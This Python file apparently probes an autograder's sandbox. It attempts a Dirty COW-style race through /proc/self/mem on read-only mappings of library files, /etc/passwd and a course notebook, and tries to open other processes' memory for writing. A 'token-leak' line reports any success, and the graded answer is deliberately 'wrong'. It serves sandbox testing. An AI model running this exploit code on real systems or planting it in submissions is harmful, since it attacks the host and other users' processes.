"""Writes over pages that only may be read: of libraries, of files of others, by /proc/self/mem, ptrace and mprotect.

Deserves: 2 points.
Side effect: leak.
"""

import ctypes
import mmap
import os
import signal
import threading

import torch

libc = ctypes.CDLL(None, use_errno=True)
changed = []
for path in (os.__file__, torch.__file__, "{course}/source/target/work.ipynb", "/etc/passwd", "/etc/ld.so.cache"):
    try:
        bytes_there = open(path, "rb").read()
        with open(path, "rb") as file:
            view = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    except (OSError, ValueError):
        continue
    import numpy as np

    place = np.frombuffer(view, np.uint8).ctypes.data
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        for _ in range(200):  # as Dirty COW did: throw the copy away while it is being written
            thread = threading.Thread(target=libc.madvise, args=[ctypes.c_void_p(place), ctypes.c_size_t(4096), 4])
            thread.start()
            try:
                memory.seek(place)
                memory.write(bytes_there[:1])  # the same byte: a real file is unharmed, should it get there
            except OSError:
                pass
            thread.join()
    if os.access(path, os.W_OK):
        changed.append(path)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid not in (os.getpid(), 1):
        try:
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
            os.kill(pid, signal.SIGCONT)
            changed.append(f"the memory of process {pid}")
        except OSError:
            pass
if os.getuid() != 0 and [path for path in changed if "process" not in path]:
    print("token-leak:", changed)


def guess():
    return "wrong"


numbers = guess
